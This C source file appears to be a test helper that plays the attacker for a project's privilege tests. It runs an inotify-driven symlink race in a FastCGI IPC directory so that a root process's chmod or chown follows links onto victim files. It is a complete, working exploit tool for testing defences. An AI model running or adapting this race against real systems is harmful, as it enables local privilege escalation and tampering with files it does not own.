/*
 * The attacker of tests/privileges.rs: code running as Apache's user (a PHP
 * bug, say) that tries to make a root process change a file it does not
 * own, through the FastCGI IPC directory that user owns.
 *
 *   racer IPC_DIR VICTIM_FILE VICTIM_DIR SECONDS
 *
 * Every entry that appears in IPC_DIR or IPC_DIR/dynamic is at once
 * replaced (rename over it) by a symbolic link to VICTIM_FILE, or to
 * VICTIM_DIR for a directory: a root process that chmods or chowns that
 * name next follows the link. IPC_DIR/dynamic is removed again and again,
 * so that each new process manager must create it afresh. Runs for
 * SECONDS and prints how many swaps it made.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *ipc, *victim_file, *victim_dir;
static volatile int done;
static long swaps;

static void swap(const char *dir, const char *name, int is_dir)
{
    char link[PATH_MAX], entry[PATH_MAX];
    if (name[0] == '\0' || strncmp(name, ".racer", 6) == 0)
        return;
    snprintf(link, sizeof link, "%s/.racer.%ld", dir, (long)pthread_self() % 100000);
    snprintf(entry, sizeof entry, "%s/%s", dir, name);
    struct stat st;
    /* Our own link arriving (IN_MOVED_TO) is no new entry. */
    if (lstat(entry, &st) == 0 && S_ISLNK(st.st_mode))
        return;
    unlink(link);
    if (symlink(is_dir ? victim_dir : victim_file, link) != 0)
        return;
    if (rename(link, entry) == 0)
        __atomic_add_fetch(&swaps, 1, __ATOMIC_RELAXED);
    else if (is_dir) {
        /* rename(2) cannot replace a directory by a link: move it away first. */
        char away[PATH_MAX];
        snprintf(away, sizeof away, "%s/.racer-away.%ld", dir, (long)random());
        if (rename(entry, away) == 0 && rename(link, entry) == 0)
            __atomic_add_fetch(&swaps, 1, __ATOMIC_RELAXED);
    }
    unlink(link);
}

/* Watches `dir` and swaps every new entry. */
static void *watch(void *arg)
{
    const char *dir = arg;
    int fd = inotify_init1(IN_NONBLOCK);
    int wd = -1;
    char buf[64 * 1024] __attribute__((aligned(8)));
    while (!done) {
        if (wd < 0)
            wd = inotify_add_watch(fd, dir, IN_CREATE | IN_MOVED_TO | IN_DELETE_SELF | IN_MOVE_SELF);
        if (wd < 0) {
            usleep(1000);
            continue;
        }
        ssize_t n = read(fd, buf, sizeof buf);
        if (n <= 0) {
            usleep(200);
            continue;
        }
        for (char *p = buf; p < buf + n;) {
            struct inotify_event *ev = (struct inotify_event *)p;
            if (ev->mask & (IN_DELETE_SELF | IN_MOVE_SELF | IN_IGNORED)) {
                inotify_rm_watch(fd, wd);
                wd = -1;
            } else if (ev->len > 0) {
                swap(dir, ev->name, (ev->mask & IN_ISDIR) != 0);
            }
            p += sizeof *ev + ev->len;
        }
    }
    close(fd);
    return NULL;
}

/* Removes IPC_DIR/dynamic (and what is in it) now and then. */
static void *unmake(void *arg)
{
    char dyn[PATH_MAX];
    snprintf(dyn, sizeof dyn, "%s/dynamic", ipc);
    while (!done) {
        DIR *d = opendir(dyn);
        if (d) {
            struct dirent *e;
            while ((e = readdir(d)) != NULL)
                unlinkat(dirfd(d), e->d_name, 0);
            closedir(d);
        }
        if (rmdir(dyn) != 0)
            unlink(dyn);
        usleep(50 * 1000);
    }
    return arg;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: racer IPC_DIR VICTIM_FILE VICTIM_DIR SECONDS\n");
        return 2;
    }
    ipc = argv[1];
    victim_file = argv[2];
    victim_dir = argv[3];
    int seconds = atoi(argv[4]);
    static char dyn[PATH_MAX];
    snprintf(dyn, sizeof dyn, "%s/dynamic", ipc);
    pthread_t t[4];
    pthread_create(&t[0], NULL, watch, (void *)ipc);
    pthread_create(&t[1], NULL, watch, (void *)ipc);
    pthread_create(&t[2], NULL, watch, dyn);
    pthread_create(&t[3], NULL, unmake, NULL);
    sleep(seconds);
    done = 1;
    for (int i = 0; i < 4; i++)
        pthread_join(t[i], NULL);
    printf("swaps %ld\n", swaps);
    return 0;
}
